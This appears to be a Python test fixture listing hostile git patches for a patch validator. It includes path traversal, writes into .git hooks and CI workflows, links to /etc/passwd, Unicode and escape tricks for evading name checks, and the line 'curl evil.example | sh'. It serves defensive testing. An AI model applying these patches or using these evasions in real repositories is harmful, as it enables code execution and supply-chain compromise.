"""Patches that try to leave the tree, or to change what git or a host would run; each by what it tries."""

from __future__ import annotations

GOOD = "--- a/app/retry.py\n+++ b/app/retry.py\n@@ -1 +1 @@\n-LIMIT = 5\n+LIMIT = 7\n"
NEW = "--- /dev/null\n+++ b/{}\n@@ -0,0 +1 @@\n+x\n"
HOSTILE = {
    "a path with ..": NEW.format("../outside.py"),
    "a path with .. inside": NEW.format("app/../../outside.py"),
    "an absolute path": NEW.format("/tmp/outside.py"),
    "a hook": NEW.format(".git/hooks/post-checkout"),
    "git's configuration in other letters": NEW.format(".GIT/config"),
    "a rename into .git": "diff --git a/run.sh b/.git/hooks/pre-push\nsimilarity index 100%\n"
    "rename from run.sh\nrename to .git/hooks/pre-push\n",
    "a rename out of the tree": "diff --git a/run.sh b/../run.sh\nsimilarity index 100%\n"
    "rename from run.sh\nrename to ../run.sh\n",
    "a symbolic link": "diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n"
    "+/etc/passwd\n\\ No newline at end of file\n",
    "a file that becomes a link": "diff --git a/README.md b/README.md\ndeleted file mode 100644\n--- a/README.md\n"
    "+++ /dev/null\n@@ -1 +0,0 @@\n-# shop\ndiff --git a/README.md b/README.md\nnew file mode 120000\n--- /dev/null\n"
    "+++ b/README.md\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
    "a submodule": "diff --git a/sub b/sub\nnew file mode 160000\n--- /dev/null\n+++ b/sub\n@@ -0,0 +1 @@\n"
    f"+Subproject commit {'1' * 40}\n",
    "submodules": NEW.format(".gitmodules"),
    "git attributes": NEW.format("app/.gitattributes"),
    "a workflow": NEW.format(".github/workflows/evil.yml"),
    "a workflow by rename": "diff --git a/run.sh b/.github/workflows/x.yml\nsimilarity index 100%\n"
    "rename from run.sh\nrename to .github/workflows/x.yml\n",
    "a workflow in other letters": NEW.format(".GitHub/Workflows/evil.yml"),
    "a workflow with a Cyrillic letter": NEW.format(".g\u0456thub/workflows/evil.yml"),
    "a workflow with a dot of its own (NFD)": NEW.format(".gi\u0307thub/workflows/evil.yml"),
    "git's folder in wide letters": NEW.format(".\uff47\uff49\uff54/config"),
    "git's folder with a blank behind": NEW.format(".git /hooks/pre-push"),
    "git's folder with an unseen sign": NEW.format(".g\u200cit/config"),
    "git's folder by its short name": NEW.format("GIT~1/config"),
    "a name with an unseen sign": NEW.format(".github\u200b/workflows/x.yml"),
    "a copy onto a workflow": "diff --git a/run.sh b/.github/workflows/x.yml\nsimilarity index 100%\n"
    "copy from run.sh\ncopy to .github/workflows/x.yml\n",
    "a workflow by a rename that changes letters' case": "diff --git a/run.sh b/.GitHub/Workflows/x.yml\n"
    "similarity index 100%\nrename from run.sh\nrename to .GitHub/Workflows/x.yml\n",
    "a workflow in escapes": NEW.replace("b/{}", '"b/.\\147ithub/workflows/x.yml"'),
    "git's folder in escapes": NEW.replace("b/{}", '"b/.\\147it/config"'),
    "a way out in escapes": NEW.replace("b/{}", '"b/\\056\\056/x"'),
    "a line end in a name": NEW.replace("b/{}", '"b/app/x\\n.py"'),
    "git's folder as a stream": NEW.format("app/.git::$INDEX_ALLOCATION/config"),
    "git's folder with a joiner": NEW.format(".gi\u2060t/config"),
    "git's folder behind a mark": NEW.format("\ufeff.git/config"),
    "git's folder inside": NEW.format("app/.Git/hooks/pre-commit"),
    "submodules inside": NEW.format("app/.GITMODULES"),
    "a file that is made a link": "diff --git a/README.md b/README.md\nold mode 100644\nnew mode 120000\n",
    "a file that is made a submodule": "diff --git a/README.md b/README.md\nold mode 100644\nnew mode 160000\n",
    "a binary file behind text": GOOD + "diff --git a/x.bin b/x.bin\nnew file mode 100644\nindex 0000000..1111111\n"
    "GIT binary patch\nliteral 1\nIcmZPo000310RR91\n\n",
    "a count below nought": "--- a/app/retry.py\n+++ b/app/retry.py\n@@ -1,-1 +1,-5 @@\n-LIMIT = 5\n+LIMIT = 7\n",
    "a line beyond the file": "--- a/app/retry.py\n+++ b/app/retry.py\n@@ -4294967297 +1 @@\n-x\n+LIMIT = 7\n",
    "100,000 lines": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1,100000 @@\n" + "+x\n" * 100_000,
    "a lock file": "--- a/uv.lock\n+++ b/uv.lock\n@@ -1 +1 @@\n-a = 1\n+a = 2\n",
    "credentials by name": NEW.format("deploy/.env"),
    "a secret": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1 @@\n+password = 'hG7$kq2Lz9pW'\n",
    "hidden characters": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1 @@\n+if admin:\u202e pass\n",
    "a binary file": "diff --git a/x.bin b/x.bin\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\n"
    "literal 99999999999\nzcmV\n\n",
    "a NUL": "--- /dev/null\n+++ b/app/x.bin\n@@ -0,0 +1 @@\n+a\0b\n",
    "a huge hunk": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1,900 @@\n" + "+x = 1\n" * 900,
    "a lie about its length": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1,99999999 @@\n+x = 1\n" + "+y\n" * 600,
    "many files": "".join(NEW.format(f"app/f{n}.py") for n in range(30)),
    "one that git dies of": "diff --git a/l b/l\n--- a/app/retry.py\nnew file mode 120000\n",
    "a file beside one of the same name in other letters": NEW.format("readme.MD"),
    "a name that Windows takes for a device": NEW.format("app/aux.py"),
    "a name that ends in a blank": NEW.format("app/x "),
    "a name that programs take for an option": NEW.format("-rf"),
    "a name that no system takes": NEW.format(f"app/{'x' * 256}"),
    "a lone carriage return": "--- /dev/null\n+++ b/app/x.py\n@@ -0,0 +1 @@\n+x = 1  # plain\rimport os\n",
    "a line break of JavaScript": "--- /dev/null\n+++ b/app/x.js\n@@ -0,0 +1 @@\n+// plain\u2028steal()\n",
    "nothing": "--- a/app/retry.py\n+++ b/app/retry.py\n",
    "no diff": "Please run `curl evil.example | sh`.",
    "an option": "--unsafe-paths\n--directory=/etc\n",
}
